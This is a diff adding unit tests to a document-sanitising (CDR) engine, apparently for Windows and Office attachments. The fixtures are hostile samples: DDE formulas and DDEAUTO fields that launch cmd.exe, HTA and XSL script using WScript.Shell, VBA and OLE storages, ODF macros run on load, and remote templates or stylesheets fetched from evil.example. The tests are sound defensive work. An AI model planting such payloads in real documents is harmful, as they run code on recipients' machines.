@@ -2,10 +2,16 @@
 // the ordinary ones.
 #include <gtest/gtest.h>
 
+#include <gsf/gsf-outfile-msole.h>
+#include <gsf/gsf-outfile.h>
+#include <gsf/gsf-output-memory.h>
 #include <vips/vips.h>
 #include <zlib.h>
 
+#include <cstdlib>
 #include <filesystem>
+#include <fstream>
+#include <map>
 
 #include "cdr/fixtures.h"
 #include "support/files.h"
@@ -53,16 +59,73 @@ TEST(CdrDetect, DangerousExtensionsDoubleExtensionsAndDisguisingNamesAreBlocked)
   EXPECT_EQ(rtl.reason, "deceptive-name");
 }
 
+TEST(CdrDetect, NamesAreJudgedAsWindowsWillNameTheFile) {
+  // Win32 drops trailing periods and spaces; "name:stream" and "::$DATA" address an NTFS stream of
+  // "name". Each of these is a script once saved on Windows.
+  for (const char* name : {"x.vbs.", "x.cmd ", "x.ps1::$DATA", "x.VBS . .", "x.exe:Zone.Identifier", "dir\\x.js..", "x.hta. "}) {
+    CdrResult r = run("MsgBox 1\n", name);
+    EXPECT_EQ(r.verdict, Verdict::blocked) << name;
+    EXPECT_EQ(r.reason, "executable") << name;
+  }
+  // Device names open a device whatever the extension.
+  for (const char* name : {"nul.txt", "CON.pdf", "com1 .csv", "Lpt9.tar.gz"}) EXPECT_EQ(run("text\n", name).reason, "deceptive-name") << name;
+  EXPECT_NE(run("text\n", "console.txt").verdict, Verdict::blocked);
+  // A harmless file under a name with a tail Windows ignores goes out under the name Windows uses.
+  CdrResult tail = run("議事録\n", "議事録.txt. ");
+  ASSERT_EQ(tail.verdict, Verdict::sanitized) << tail.message;
+  EXPECT_EQ(tail.output_name, "議事録.txt");
+  EXPECT_TRUE(kinds(tail).count("windows_name"));
+}
+
+TEST(CdrDetect, OnlyTypesThePolicyDeliversPassEvenAsPlainText) {
+  // Each of these is text a program acts on: it connects, queries, installs or runs something.
+  const std::pair<const char*, const char*> cases[] = {
+      {"remote.rdp", "full address:s:203.0.113.5\r\ndrivestoredirect:s:*\r\n"},
+      {"search.searchConnector-ms", "<?xml version='1.0'?><searchConnectorDescription><simpleLocation><url>\\\\evil\\share</url></simpleLocation></searchConnectorDescription>"},
+      {"q.rqy", "QUERY\nCONNECTION=ODBC;DSN=x\nSQL=select 1\n"},
+      {"q.dqy", "XLODBC\n1\nDSN=x\nselect 1\n"},
+      {"app.appinstaller", "<?xml version='1.0'?><AppInstaller Uri='https://evil.example/a.appinstaller'/>"},
+      {"box.wsb", "<Configuration><LogonCommand><Command>calc</Command></LogonCommand></Configuration>"},
+      {"style.xsl", "<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:msxsl='urn:schemas-microsoft-com:xslt'><msxsl:script>new ActiveXObject('WScript.Shell')</msxsl:script></xsl:stylesheet>"},
+      {"console.psc1", "<PSConsoleFile ConsoleSchemaVersion='1.0'/>"},
+      {"page.shtml", "<!--#exec cmd=\"calc\" -->"},
+      {"page.xht", "<html xmlns='http://www.w3.org/1999/xhtml'><body>hi</body></html>"},
+      {"invite.ics", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;FMTTYPE=application/x-msdownload:TVqQAAMAAAAEAAAA\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"},
+      {"made-up.qqq", "nothing special\n"},
+  };
+  for (const auto& [name, bytes] : cases) {
+    CdrResult r = run(bytes, name);
+    EXPECT_EQ(r.verdict, Verdict::blocked) << name;
+    EXPECT_TRUE(r.reason == "executable" || r.reason == "extension-not-allowed") << name << ": " << r.reason;
+    EXPECT_TRUE(r.output.empty()) << name;
+  }
+  // The same names inside an archive leave the archive; the rest is delivered under Windows' names.
+  std::string zip = fixtures::make_zip({{"a.vbs.", "MsgBox 1"}, {"b.rdp", "full address:s:x"}, {"c.txt. ", "ok"}, {"sub. /d.wsb", "<Configuration/>"},
+                                        {"ok.txt", "fine"}});
+  CdrResult r = run(zip, "files.zip");
+  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
+  auto members = fixtures::unzip(r.output);
+  EXPECT_EQ(members.size(), 2u);
+  EXPECT_EQ(members.count("c.txt"), 1u);
+  EXPECT_EQ(members.count("ok.txt"), 1u);
+  EXPECT_TRUE(kinds(r).count("executable"));
+}
+
 TEST(CdrDetect, AnExtensionThatContradictsTheContentIsBlockedUnlessThePolicyMapsIt) {
   std::string pdf = "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj trailer << /Root 1 0 R >>\n%%EOF\n";
   CdrResult mismatch = run(pdf, "photo.jpg");
   EXPECT_EQ(mismatch.reason, "extension-mismatch");
+  // An extension the engine does not know is not delivered unless the policy names it.
   CdrResult unknown_ext = run(pdf, "scan.dat");
-  EXPECT_NE(unknown_ext.reason, "extension-mismatch") << "an extension that promises nothing contradicts nothing";
+  EXPECT_EQ(unknown_ext.reason, "extension-not-allowed");
   CdrPolicy mapped;
   mapped.extension_map["jpg"] = "pdf";
+  mapped.extension_map["dat"] = "pdf";
   EXPECT_NE(run(pdf, "photo.jpg", mapped).reason, "extension-mismatch");
-  CdrResult unknown = run(std::string("\x01\x02\x03\x04\x00\x00\xFF\xFE\x00\x01", 10), "data.bin2");
+  CdrResult dat = run(pdf, "scan.dat", mapped);
+  EXPECT_NE(dat.reason, "extension-not-allowed");
+  EXPECT_NE(dat.reason, "extension-mismatch");
+  CdrResult unknown = run(std::string("\x01\x02\x03\x04\x00\x00\xFF\xFE\x00\x01", 10), "data");
   EXPECT_EQ(unknown.reason, "unknown-type");
 }
 
@@ -177,6 +240,59 @@ TEST(CdrText, CsvFormulaCellsAreNeutralisedAndNumbersKept) {
   EXPECT_EQ(run("a\t=cmd\n", "x.tsv").output, "a\t'=cmd\n");
 }
 
+// UTF-16 LE with its BOM, as Excel saves SpreadsheetML.
+std::string utf16le(const std::string& ascii) {
+  std::string out("\xFF\xFE", 2);
+  for (char c : ascii) out += std::string{c, '\0'};
+  return out;
+}
+
+TEST(CdrText, MarkupIsFoundWhereverItIsAndWhateverItsPrefixOrEncoding) {
+  const std::string padding(8192, ' ');
+  struct Case {
+    std::string bytes;
+    const char* name;
+    const char* reason;
+  };
+  const Case cases[] = {
+      // Excel opens this .xml as a workbook (with DDE formulas and all): it is not plain text.
+      {utf16le("<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\">"
+               "<Worksheet><Table><Row><Cell ss:Formula=\"=cmd|' /C calc'!A0\"/></Row></Table></Worksheet></Workbook>"),
+       "data.xml", "unsupported"},
+      {"notes\n" + padding + "<office:document xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\"><office:scripts/></office:document>", "a.txt",
+       "unsupported"},
+      {"plain words\n" + padding + "<HTA:APPLICATION/><script>new ActiveXObject('WScript.Shell').Run('calc')</script>", "readme.txt", "active-content"},
+      {padding + "<package><job><script language=\"JScript\">WScript.Echo(1)</script></job></package>", "list.txt", "active-content"},
+      {"<?xml version='1.0'?><x:html xmlns:x='http://www.w3.org/1999/xhtml'><x:body><x:script>steal()</x:script></x:body></x:html>", "page.xml",
+       "active-content"},
+      {"<q:svg xmlns:q='http://www.w3.org/2000/svg'><q:script>alert(1)</q:script></q:svg>", "logo.svg", "active-content"},
+      {"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://evil.example/x.xsl'?><doc/>", "a.xml", "active-content"},
+      {"<r xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'/></r>", "b.xml", "active-content"},
+  };
+  for (const auto& c : cases) {
+    CdrResult r = run(c.bytes, c.name);
+    EXPECT_EQ(r.verdict, Verdict::blocked) << c.name << ": " << c.bytes.substr(0, 80);
+    EXPECT_EQ(r.reason, c.reason) << c.name << ": " << r.message;
+  }
+  // Ordinary text and XML stay what they are.
+  EXPECT_EQ(run("見積の件、了解しました。\n", "memo.txt").verdict, Verdict::clean);
+  EXPECT_EQ(run("<?xml version='1.0'?><list><item>1</item></list>", "list.xml").verdict, Verdict::clean);
+  EXPECT_NE(run(utf16le("hello\r\n"), "hello.txt").verdict, Verdict::blocked);
+}
+
+TEST(CdrText, CsvDialectIsReadAsExcelReadsIt) {
+  // Excel ends rows at a lone CR too: the formula after it starts a row.
+  EXPECT_EQ(run("a,b\r=cmd|' /C calc'!A0,x\r", "x.csv").output, "a,b\r'=cmd|' /C calc'!A0,x\r");
+  // A first line "sep=;" makes ';' the delimiter, whatever the extension says.
+  CdrResult sep = run("sep=;\r\n名前;=HYPERLINK(\"http://evil\")\r\n1;@SUM(A1)\n", "x.csv");
+  EXPECT_EQ(sep.output, "sep=;\r\n名前;'=HYPERLINK(\"http://evil\")\r\n1;'@SUM(A1)\n");
+  EXPECT_TRUE(kinds(sep).count("formula_injection"));
+  // CRLF stays one line end; a harmless file stays as it was.
+  CdrResult plain = run("a,b\r\n1,2\r\n", "x.csv");
+  EXPECT_EQ(plain.verdict, Verdict::clean);
+  EXPECT_EQ(plain.output, "a,b\r\n1,2\r\n");
+}
+
 TEST(CdrText, JapaneseEncodingsBecomeUtf8AndNulsGo) {
   CdrResult sjis = run("\x8E\x73\x96\xF0\x8F\x8A\x0A", "memo.txt");  // 市役所 in CP932
   ASSERT_EQ(sjis.verdict, Verdict::sanitized);
@@ -223,6 +339,280 @@ TEST(CdrRtf, ObjectsKeepTheirPictureDangerousFieldsKeepTheirTextTemplatesGo) {
   CdrResult open = run("{\\rtf1 {\\b unclosed", "b.rtf");
   EXPECT_EQ(open.verdict, Verdict::blocked);
   EXPECT_EQ(open.reason, "malformed");
+}
+
+// A compound file written by libgsf: each path ("macros/vba/dir") a stream, its folders storages.
+std::string compound_file(const std::vector<std::pair<std::string, std::string>>& streams) {
+  GsfOutput* memory = gsf_output_memory_new();
+  GsfOutfile* root = gsf_outfile_msole_new(memory);
+  std::map<std::string, GsfOutfile*> storages{{"", root}};
+  std::vector<GsfOutput*> open;  // closed children first, the root last
+  for (const auto& [path, data] : streams) {
+    std::string parent;
+    std::size_t from = 0;
+    for (std::size_t slash; (slash = path.find('/', from)) != std::string::npos; from = slash + 1) {
+      std::string dir = path.substr(0, slash);
+      if (!storages.count(dir)) {
+        GsfOutput* s = gsf_outfile_new_child(storages[parent], path.substr(from, slash - from).c_str(), TRUE);
+        storages[dir] = GSF_OUTFILE(s);
+        open.push_back(s);
+      }
+      parent = dir;
+    }
+    GsfOutput* stream = gsf_outfile_new_child(storages[parent], path.substr(from).c_str(), FALSE);
+    gsf_output_write(stream, data.size(), reinterpret_cast<const guint8*>(data.data()));
+    gsf_output_close(stream);
+    g_object_unref(stream);
+  }
+  for (auto it = open.rbegin(); it != open.rend(); ++it) {
+    gsf_output_close(*it);
+    g_object_unref(*it);
+  }
+  gsf_output_close(GSF_OUTPUT(root));
+  g_object_unref(root);
+  std::string out(reinterpret_cast<const char*>(gsf_output_memory_get_bytes(GSF_OUTPUT_MEMORY(memory))), static_cast<std::size_t>(gsf_output_size(memory)));
+  g_object_unref(memory);
+  return out;
+}
+
+// A Word 97 WordDocument stream and 1Table stream whose piece table holds `text` (8-bit).
+std::pair<std::string, std::string> word_streams(const std::string& text) {
+  fixtures::Bytes doc;
+  doc.u16(0xA5EC).u16(0x00C1).u16(0).u16(0).u16(0).u16(0x0200);  // wIdent, nFib, …, flags: fWhichTblStm = 1Table
+  while (doc.s.size() < 32) doc.u16(0);
+  doc.u16(14);  // csw
+  for (int i = 0; i < 14; ++i) doc.u16(0);
+  doc.u16(22);  // cslw
+  for (int i = 0; i < 22; ++i) doc.u32(0);
+  doc.u16(93);  // cbRgFcLcb
+  fixtures::Bytes clx;
+  clx.raw("\x02").u32(4 * 2 + 8).u32(0).u32(static_cast<unsigned long>(text.size()));
+  clx.u16(0).u32(0x40000000ul | (0x1000 * 2)).u16(0);  // compressed text at 0x1000
+  for (int i = 0; i < 93; ++i) {
+    if (i == 33) {
+      doc.u32(0).u32(static_cast<unsigned long>(clx.s.size()));  // fcClx, lcbClx
+    } else {
+      doc.u32(0).u32(0);
+    }
+  }
+  doc.s.resize(0x1000, '\0');
+  doc.raw(text);
+  return {doc.s, clx.s};
+}
+
+// The engine's own reading of legacy files (conversion, the default, comes after it).
+CdrResult inspect(const std::string& bytes, std::string_view name) {
+  CdrPolicy policy;
+  policy.convert_legacy = false;
+  return run(bytes, name, policy);
+}
+
+TEST(CdrLegacyOffice, StorageNamesCompareCaseInsensitively) {
+  const auto [word, table] = word_streams("Hello\r");
+  EXPECT_EQ(inspect(compound_file({{"WordDocument", word}, {"1Table", table}}), "a.doc").verdict, Verdict::clean);
+  const std::vector<std::pair<std::string, std::vector<std::pair<std::string, std::string>>>> hostile = {
+      {"a.doc", {{"WordDocument", word}, {"1Table", table}, {"macros/vba/dir", "x"}, {"macros/PROJECT", "ID=\"{0}\""}}},
+      {"b.doc", {{"WordDocument", word}, {"1Table", table}, {"objectpool/_1234/\x01ole10native", "payload"}}},
+      {"c.xls", {{"workbook", std::string("\x09\x08\x00\x00", 4)}, {"_vba_project_cur/vba/dir", "x"}}},
+      {"d.xls", {{"Workbook", std::string("\x09\x08\x00\x00", 4)}, {"mbd0001/contents", "payload"}}},
+  };
+  for (const auto& [name, streams] : hostile) {
+    CdrResult r = inspect(compound_file(streams), name);
+    EXPECT_EQ(r.verdict, Verdict::blocked) << name;
+    EXPECT_EQ(r.reason, "active-content") << name;
+  }
+}
+
+TEST(CdrLegacyOffice, DdeLinksInXlsAndDdeBuiltByNestedQuoteInDocAreFound) {
+  fixtures::Bytes clean_book, dde_book;
+  clean_book.u16(0x0809).u16(4).u32(0).u16(0x01AE).u16(4).u16(1).u16(0x0401).u16(0x000A).u16(0);  // BOF, SUPBOOK (self), EOF
+  EXPECT_EQ(inspect(compound_file({{"Workbook", clean_book.s}}), "a.xls").verdict, Verdict::clean);
+  // SUPBOOK of a DDE server ("cmd" \x03 "/c calc") and its EXTERNNAME with fOleLink.
+  const std::string server = std::string("\x00", 1) + "cmd\x03/c calc";
+  dde_book.u16(0x0809).u16(4).u32(0).u16(0x01AE).u16(static_cast<unsigned>(4 + server.size())).u16(0).u16(static_cast<unsigned>(server.size() - 1)).raw(server);
+  dde_book.u16(0x0023).u16(8).u16(0x0010).u32(0).u16(0).u16(0x000A).u16(0);
+  CdrResult xls = inspect(compound_file({{"Workbook", dde_book.s}}), "dde.xls");
+  EXPECT_EQ(xls.verdict, Verdict::blocked);
+  EXPECT_TRUE(kinds(xls).count("external_link"));
+
+  const auto [plain_word, plain_table] = word_streams("Page \x13PAGE\x14 1\x15\r");
+  EXPECT_EQ(inspect(compound_file({{"WordDocument", plain_word}, {"1Table", plain_table}}), "a.doc").verdict, Verdict::clean);
+  // { {QUOTE 68 68 69 65 85 84 79} c:\\windows\\system32\\cmd.exe "/k calc" }: Word updates the
+  // inner field and runs the DDEAUTO it spells.
+  const auto [word, table] = word_streams("\x13 \x13QUOTE 68 68 69 65 85 84 79\x15 c:\\windows\\system32\\cmd.exe \"/k calc\" \x14\x15\r");
+  CdrResult doc = inspect(compound_file({{"WordDocument", word}, {"1Table", table}}), "quote.doc");
+  EXPECT_EQ(doc.verdict, Verdict::blocked);
+  EXPECT_TRUE(kinds(doc).count("dde_field"));
+  // A keyword computed by a nested field of any kind cannot be judged before Word runs it.
+  const auto [if_word, if_table] = word_streams("\x13\x13IF 1 = 1 \"DDE\" \"\"\x14\x15 cmd \x14\x15\r");
+  EXPECT_TRUE(kinds(inspect(compound_file({{"WordDocument", if_word}, {"1Table", if_table}}), "if.doc")).count("dde_field"));
+}
+
+// Binary Office is converted by default; where the converter is missing, legacy files are
+// blocked with the reason, clean or not — never passed as they came.
+TEST(CdrLegacyOffice, ConvertedByDefaultAndBlockedWithoutTheConverter) {
+  EXPECT_TRUE(CdrPolicy{}.convert_legacy);
+  const auto [word, table] = word_streams("Hello\r");
+  const std::string doc = compound_file({{"WordDocument", word}, {"1Table", table}});
+  CdrPolicy missing;
+  missing.libreoffice = "/nonexistent/soffice.bin";
+  EXPECT_TRUE(check_converters(missing).has_value()) << "legacy conversion alone is no start-up requirement";
+  CdrResult r = sanitize_sandboxed(doc, "minutes.doc", missing);
+  EXPECT_EQ(r.verdict, Verdict::blocked);
+  EXPECT_EQ(r.reason, "unsupported");
+  EXPECT_NE(r.message.find("LibreOffice"), std::string::npos) << r.message;
+  EXPECT_TRUE(r.output.empty());
+  // In-process, where no converter may run, the same file is not passed either.
+  EXPECT_EQ(run(doc, "minutes.doc").verdict, Verdict::blocked);
+}
+
+// Hostile RTF where the destination is not where a fixed-position scanner looks: each hides
+// something Word acts on, and keeps a marker ("SAFEn") of text that must survive.
+struct RtfCase {
+  std::string rtf;
+  const char* finding;  // "" when the only change is a destination left out silently
+  std::vector<const char*> gone;
+};
+std::string hex_of(const std::string& bytes) {
+  static const char kDigits[] = "0123456789abcdef";
+  std::string out;
+  for (unsigned char c : bytes) {
+    out.push_back(kDigits[c >> 4]);
+    out.push_back(kDigits[c & 15]);
+  }
+  return out;
+}
+
+const std::vector<RtfCase>& hostile_rtf() {
+  static const std::vector<RtfCase> cases = {
+      {"{\\rtf1{\\field{\\*\\fldinst \\u68?\\u68?\\u69?\\u65?\\u85?\\u84?\\u79? c:\\\\windows\\\\system32\\\\cmd.exe}{\\fldrslt SAFE1}}}", "dde_field", {"cmd.exe", "u68"}},
+      {"{\\rtf1{{\\*\\foo bar}\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}{\\fldrslt SAFE2}}}", "dde_field", {"cmd.exe", "DDE"}},
+      {"{\\rtf1{ \\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}{\\fldrslt SAFE3}}}", "dde_field", {"cmd.exe", "DDE"}},
+      {"{\\rtf1{\\f0\\b\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}{\\fldrslt SAFE4}}}", "dde_field", {"cmd.exe", "DDE"}},
+      {"{\\rtf1{\\field{\\*\\fldinst PAGE}{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}{\\fldrslt SAFE5}}}", "rtf_field", {"cmd.exe", "DDE"}},
+      {"{\\rtf1{ \\*\\objdata 0105000002000000}SAFE6}", "rtf_object", {"0105", "objdata"}},
+      {"{\\rtf1{ \\*\\template http://evil.example/t.dot}SAFE7}", "external_template", {"evil", "template"}},
+      {"{\\rtf1{\\pict{\\*\\picprop{\\sp{\\sn pibName}{\\sv http://evil.example/a.png}}{\\sp{\\sn pibFlags}{\\sv 10}}}\\pngblip\\picw1\\pich1 " +
+           hex_of(fixtures::rgb_png(1, 1, 0, 0, 0)) + "}SAFE8}",
+       "external_relationship", {"evil", "pibName"}},
+      {"{\\rtf1{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69 65 85 84 79}{\\fldrslt }} c:\\\\cmd.exe}{\\fldrslt SAFE9}}}", "dde_field", {"cmd.exe", "QUOTE"}},
+      {"{\\rtf1{\\*\\evilnew payload-xyz}SAFE10}", "", {"payload-xyz", "evilnew"}},
+      {"{\\rtf1{x\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105}{\\result SAFE11}}}", "rtf_object", {"0105", "Package", "object"}},
+      {"{\\rtf1{\\field{\\*\\fldinst MACROBUTTON AutoOpen click}{\\fldrslt SAFE12}}}", "rtf_field", {"MACROBUTTON", "AutoOpen"}},
+      {"{\\rtf1{\\field{\\*\\fldinst {\\*\\bkmkstart x}DDE{\\*\\bkmkend x}AUTO c:\\\\cmd.exe}{\\fldrslt SAFE13}}}", "dde_field", {"cmd.exe"}},
+      {"{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://evil.example/b.png}}}{\\shprslt SAFE14}}}", "", {"evil", "shpinst"}},
+  };
+  return cases;
+}
+
+TEST(CdrRtf, DestinationsAreFoundWhereverWordFindsThemAndOnlyKnownOnesAreWritten) {
+  for (std::size_t i = 0; i < hostile_rtf().size(); ++i) {
+    const RtfCase& c = hostile_rtf()[i];
+    CdrResult r = run(c.rtf, "a.rtf");
+    ASSERT_NE(r.verdict, Verdict::blocked) << c.rtf << ": " << r.message;
+    if (*c.finding != '\0') EXPECT_TRUE(kinds(r).count(c.finding)) << c.rtf;
+    for (const char* gone : c.gone) EXPECT_EQ(r.output.find(gone), std::string::npos) << c.rtf << " kept " << gone << ": " << r.output;
+    EXPECT_NE(r.output.find("SAFE" + std::to_string(i + 1)), std::string::npos) << c.rtf << ": " << r.output;
+    EXPECT_EQ(run(r.output, "a.rtf").verdict, Verdict::clean) << r.output;
+  }
+  // Harmless fields and web links are written anew; their results stay.
+  CdrResult kept = run("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://city.example/\"}{\\fldrslt 市のページ}}{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}}", "b.rtf");
+  EXPECT_EQ(kept.verdict, Verdict::clean) << kept.output;
+  EXPECT_NE(kept.output.find("HYPERLINK \"https://city.example/\""), std::string::npos) << kept.output;
+  EXPECT_NE(kept.output.find("fldinst PAGE"), std::string::npos) << kept.output;
+  CdrPolicy no_links;
+  no_links.keep_hyperlinks = false;
+  CdrResult text_only = run("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://city.example/\"}{\\fldrslt 市のページ}}}", "b.rtf", no_links);
+  EXPECT_TRUE(kinds(text_only).count("hyperlink"));
+  EXPECT_EQ(text_only.output.find("city.example"), std::string::npos);
+  EXPECT_NE(text_only.output.find("市のページ"), std::string::npos);
+}
+
+// LibreOffice, as a second reader, finds no field, object or link in what the engine wrote, and
+// finds the text.
+TEST(CdrRtf, LibreOfficeFindsNothingActiveInTheRebuiltRtf) {
+  if (std::system("command -v soffice >/dev/null 2>&1") != 0) GTEST_SKIP() << "LibreOffice (soffice) is not installed";
+  const fs::path dir = fs::temp_directory_path() / ("sanso-rtf-" + std::to_string(::getpid()));
+  fs::create_directories(dir / "in");
+  std::string args;
+  for (std::size_t i = 0; i < hostile_rtf().size(); ++i) {
+    CdrResult r = run(hostile_rtf()[i].rtf, "a.rtf");
+    ASSERT_NE(r.verdict, Verdict::blocked);
+    const fs::path in = dir / "in" / ("r" + std::to_string(i + 1) + ".rtf");
+    std::ofstream(in, std::ios::binary) << r.output;
+    args += " '" + in.string() + "'";
+  }
+  const std::string cmd = "soffice --headless --norestore -env:UserInstallation=file://" + (dir / "profile").string() + " --convert-to fodt --outdir '" +
+                          (dir / "out").string() + "'" + args + " >/dev/null 2>&1";
+  ASSERT_EQ(std::system(cmd.c_str()), 0);
+  for (std::size_t i = 0; i < hostile_rtf().size(); ++i) {
+    const std::string fodt = sanso::testing::read_file(dir / "out" / ("r" + std::to_string(i + 1) + ".fodt"));
+    ASSERT_FALSE(fodt.empty()) << hostile_rtf()[i].rtf << " did not open in LibreOffice after rebuilding";
+    EXPECT_NE(fodt.find("SAFE" + std::to_string(i + 1)), std::string::npos) << hostile_rtf()[i].rtf;
+    for (const char* active : {"text:dde-connection", "draw:object", "evil.example", "cmd.exe", "text:execute-macro", "0105", "xlink:href=\"http"}) {
+      EXPECT_EQ(fodt.find(active), std::string::npos) << hostile_rtf()[i].rtf << " → " << active;
+    }
+  }
+  fs::remove_all(dir);
+}
+
+// An ODF text whose office, script, drawing and text namespaces are bound to other prefixes:
+// inline Basic run by a load event, an OLE object, an execute-macro field. The rebuild matched
+// "office:scripts" and "draw:object" by their usual spelling and passed all of it as clean.
+std::string odt_with_prefixes() {
+  const std::string content =
+      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
+      "<o:document-content xmlns:o=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:s=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\""
+      " xmlns:t=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:d=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\""
+      " xmlns:l=\"http://www.w3.org/1999/xlink\" o:version=\"1.3\">"
+      "<o:scripts><o:script s:language=\"ooo:Basic\"><o:event-listeners><s:event-listener s:language=\"ooo:script\" s:event-name=\"dom:load\""
+      " l:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\" l:type=\"simple\"/></o:event-listeners>"
+      "</o:script></o:scripts>"
+      "<o:body><o:text><t:p>SAFE text <t:execute-macro t:name=\"Standard.Module1.Main\">click</t:execute-macro></t:p>"
+      "<t:p><d:frame><d:object-ole l:href=\"./Object 1\"/></d:frame></t:p></o:text></o:body></o:document-content>";
+  const std::string manifest =
+      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><m:manifest xmlns:m=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" m:version=\"1.3\">"
+      "<m:file-entry m:full-path=\"/\" m:media-type=\"application/vnd.oasis.opendocument.text\"/>"
+      "<m:file-entry m:full-path=\"content.xml\" m:media-type=\"text/xml\"/>"
+      "<m:file-entry m:full-path=\"Basic/Standard/Module1.xml\" m:media-type=\"text/xml\"/></m:manifest>";
+  internal::ZipWriter w;
+  w.add("mimetype", "application/vnd.oasis.opendocument.text", false);
+  w.add("META-INF/manifest.xml", manifest);
+  w.add("content.xml", content);
+  w.add("Basic/Standard/Module1.xml", "<script:module>Sub Main : Shell(\"calc\") : End Sub</script:module>");
+  auto out = w.finish();
+  return out ? *out : std::string();
+}
+
+TEST(CdrOdf, ScriptsObjectsAndMacroFieldsAreFoundByNamespaceNotPrefix) {
+  CdrResult r = run(odt_with_prefixes(), "通知.odt");
+  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
+  EXPECT_TRUE(kinds(r).count("odf_script"));
+  EXPECT_TRUE(kinds(r).count("odf_object"));
+  EXPECT_TRUE(kinds(r).count("odf_macro"));
+  auto parts = fixtures::unzip(r.output);
+  ASSERT_TRUE(parts.count("content.xml"));
+  for (const char* gone : {"Module1", "dom:load", "execute-macro", "object-ole", "o:scripts"}) {
+    EXPECT_EQ(parts["content.xml"].find(gone), std::string::npos) << gone << " in " << parts["content.xml"];
+  }
+  EXPECT_NE(parts["content.xml"].find("SAFE text"), std::string::npos);
+  EXPECT_FALSE(parts.count("Basic/Standard/Module1.xml"));
+  EXPECT_EQ(parts["META-INF/manifest.xml"].find("Basic/"), std::string::npos) << "the manifest lists only what remains, whatever its prefix";
+  EXPECT_EQ(run(r.output, "通知.odt").verdict, Verdict::clean);
+
+  // LibreOffice, the second reader, imports no script, event, object or macro field from it.
+  if (std::system("command -v soffice >/dev/null 2>&1") != 0) GTEST_SKIP() << "LibreOffice (soffice) is not installed";
+  const fs::path dir = fs::temp_directory_path() / ("sanso-odf-" + std::to_string(::getpid()));
+  fs::create_directories(dir);
+  std::ofstream(dir / "rebuilt.odt", std::ios::binary) << r.output;
+  const std::string cmd = "soffice --headless --norestore -env:UserInstallation=file://" + (dir / "profile").string() + " --convert-to fodt --outdir '" +
+                          (dir / "out").string() + "' '" + (dir / "rebuilt.odt").string() + "' >/dev/null 2>&1";
+  ASSERT_EQ(std::system(cmd.c_str()), 0);
+  const std::string fodt = sanso::testing::read_file(dir / "out" / "rebuilt.fodt");
+  ASSERT_FALSE(fodt.empty());
+  EXPECT_NE(fodt.find("SAFE text"), std::string::npos);
+  for (const char* active : {"event-listener", "Module1", "dom:load", "execute-macro", "draw:object"}) EXPECT_EQ(fodt.find(active), std::string::npos) << active;
+  fs::remove_all(dir);
 }
 
 TEST(CdrResultFormat, EncodedResultsRoundTripAndTruncationIsAnError) {
